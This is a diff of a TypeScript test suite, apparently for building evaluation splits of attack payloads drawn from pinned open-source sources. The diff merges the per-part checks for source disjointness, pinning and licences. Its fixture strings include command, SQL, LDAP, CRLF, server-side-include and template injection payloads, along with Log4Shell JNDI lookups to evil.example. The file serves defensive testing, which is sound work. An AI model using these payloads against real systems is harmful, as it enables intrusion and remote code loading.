@@ -91,6 +91,22 @@ t.test('the fresh part: its own sources, never the halves\' ones, and never spli
   t.same([...parts].sort(), ['held-out', 'tune'])
 })
 
+t.test('each later fresh part: sources none of the earlier parts uses, pinned, licences recorded; spent once measured', async (t) => {
+  const parts = [['second', FRESH2_SOURCES], ['third', FRESH3_SOURCES], ['fourth', FRESH4_SOURCES], ['fifth', FRESH5_SOURCES]] as const
+  const earlier = new Set([...SOURCES, ...FRESH_SOURCES].map((s) => s.repo))
+  for (const [name, sources] of parts) {
+    t.ok(sources.length > 0, `the ${name} fresh part has sources`)
+    for (const s of sources) {
+      t.notOk(earlier.has(s.repo), `${s.repo} (${name}) is not a source of an earlier part`)
+      t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
+      t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
+    }
+    t.equal(new Set(sources.map((s) => s.repo)).size, sources.length, `each source of the ${name} fresh part listed once`)
+    for (const s of sources) earlier.add(s.repo)
+  }
+  t.same(MEASURE_ONLY, ['held-out'], 'only the held-out half\'s misses and false positives are never shown: every fresh part measured once is spent')
+})
+
 t.test('the fresh sources are cut as written: notes, string literals, JSON values', async (t) => {
   t.same(stripNotes([';       # Semicolon - execute after', 'http://localhost → http://%6c%6f%63%61%6c%68%6f%73%74', '• /%0D%0ASet-Cookie:a=b (check the response)', 'Payload: *)(uid=*', 'asd||sleep 5|| >> Middle of two parameter.', '$ cat hosts.txt | httpx', "' or 1=1-- -"]), [
     ';',
@@ -104,17 +120,6 @@ t.test('the fresh sources are cut as written: notes, string literals, JSON value
   t.same(codeLiterals(`payloads = [r'%0d%0aSet-Cookie:a=b', "<!--#exec cmd=\\"id\\" -->", \`{{7*7}}\`]`), ['%0d%0aSet-Cookie:a=b', '<!--#exec cmd="id" -->', '{{7*7}}'])
   t.same(jsonStrings('{"description":"A list","names":["Ada Lovelace","Al",{"first":"Alan Turing"}]}', 3), ['Ada Lovelace', 'Alan Turing'])
   t.same(jsonStrings('not json', 1), [])
-})
-
-t.test('the second fresh part: sources none of the earlier parts uses, pinned, licences recorded', async (t) => {
-  const earlier = new Set([...SOURCES, ...FRESH_SOURCES].map((s) => s.repo))
-  t.ok(FRESH2_SOURCES.length > 0)
-  for (const s of FRESH2_SOURCES) {
-    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves or of the fresh part`)
-    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
-    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
-  }
-  t.equal(new Set(FRESH2_SOURCES.map((s) => s.repo)).size, FRESH2_SOURCES.length, 'each source listed once')
 })
 
 t.test('the second fresh sources are cut as written: WAF test cases in JSON and YAML', async (t) => {
@@ -183,17 +188,6 @@ t.test('a WAF\'s regression tests: the values of the requests expected to be det
   t.same(ftwValues(ftw), ['${jndi:ldap://evil.example/a}', '1', '%27or%201', '/get', '%24%7Bjndi%3Aldap%7D', '2', '/post', '<x>${jndi:dns://evil.example}</x>'])
 })
 
-t.test('the third fresh part: sources none of the earlier parts uses, pinned, licences recorded', async (t) => {
-  const earlier = new Set([...SOURCES, ...FRESH_SOURCES, ...FRESH2_SOURCES].map((s) => s.repo))
-  t.ok(FRESH3_SOURCES.length > 0)
-  for (const s of FRESH3_SOURCES) {
-    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves, the fresh part or the second fresh part`)
-    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
-    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
-  }
-  t.equal(new Set(FRESH3_SOURCES.map((s) => s.repo)).size, FRESH3_SOURCES.length, 'each source listed once')
-})
-
 t.test('a value taken encoded from a raw request\'s URL: as written in a URL place, decoded once elsewhere', async (t) => {
   t.equal(urlDecodedOnce('1+OR+%271%27%3D%271', 'query'), "1 OR '1'='1", 'a query value: "+" is a blank')
   t.equal(urlDecodedOnce('/a+b/%2e%2e', 'path'), '/a+b/..', 'a path: "+" is a plus')
@@ -229,31 +223,6 @@ t.test('the third fresh sources are cut as written: CSV fields, records', async 
   t.equal(csvField('"1"', 3), null)
   t.same(jsonRecords('{"addresses":[{"address1":"1 Main St","city":"Springfield","state":"IL"},{"address1":"2 Elm St","city":""}]}', ['address1', 'city', 'state']), ['1 Main St, Springfield, IL'])
   t.same(jsonRecords('not json', ['a']), [])
-})
-
-t.test('the fourth fresh part: sources none of the earlier parts uses, pinned, licences recorded; only ever measured', async (t) => {
-  const earlier = new Set([...SOURCES, ...FRESH_SOURCES, ...FRESH2_SOURCES, ...FRESH3_SOURCES].map((s) => s.repo))
-  t.ok(FRESH4_SOURCES.length > 0)
-  for (const s of FRESH4_SOURCES) {
-    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves or of the first three fresh parts`)
-    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
-    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
-  }
-  t.equal(new Set(FRESH4_SOURCES.map((s) => s.repo)).size, FRESH4_SOURCES.length, 'each source listed once')
-  t.ok(MEASURE_ONLY.includes('held-out'), 'the held-out half\'s misses and false positives are never shown')
-  t.notOk(MEASURE_ONLY.includes('fresh3') || MEASURE_ONLY.includes('fresh4'), 'the spent fresh parts are tuned on')
-})
-
-t.test('the fifth fresh part: sources none of the earlier parts uses, pinned, licences recorded; only ever measured', async (t) => {
-  const earlier = new Set([...SOURCES, ...FRESH_SOURCES, ...FRESH2_SOURCES, ...FRESH3_SOURCES, ...FRESH4_SOURCES].map((s) => s.repo))
-  t.ok(FRESH5_SOURCES.length > 0)
-  for (const s of FRESH5_SOURCES) {
-    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves or of the first four fresh parts`)
-    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
-    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
-  }
-  t.equal(new Set(FRESH5_SOURCES.map((s) => s.repo)).size, FRESH5_SOURCES.length, 'each source listed once')
-  t.notOk(MEASURE_ONLY.includes('fresh5'), 'measured once (2026-12-02), spent since: its misses are shown')
 })
 
 t.test('the fifth fresh sources are cut as written: a labelled data set\'s attacks only', async (t) => {
